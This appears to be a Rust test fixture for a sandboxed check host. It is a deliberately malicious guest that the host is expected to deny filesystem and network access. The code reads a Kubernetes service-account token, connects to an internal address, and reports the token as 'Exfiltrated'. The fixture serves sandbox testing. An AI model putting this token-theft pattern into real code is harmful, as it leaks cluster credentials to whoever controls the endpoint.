//! A check that reaches for ambient authority: the filesystem and the network. It may import them (as a
//! 0.2 check), but the host gives it no preopened directory and no network: it must read nothing and
//! connect nowhere.

use preflight_guest::{Outcome, Request};

/// The check.
pub fn check(_request: Request) -> Outcome {
    let secrets = std::fs::read_to_string("/var/run/secrets/kubernetes.io/serviceaccount/token")
        .unwrap_or_default();
    match std::net::TcpStream::connect("10.0.0.1:443") {
        Ok(_) => Outcome::proceed().because("Exfiltrated", secrets),
        Err(_) => Outcome::block(),
    }
}

preflight_guest::check!(check);
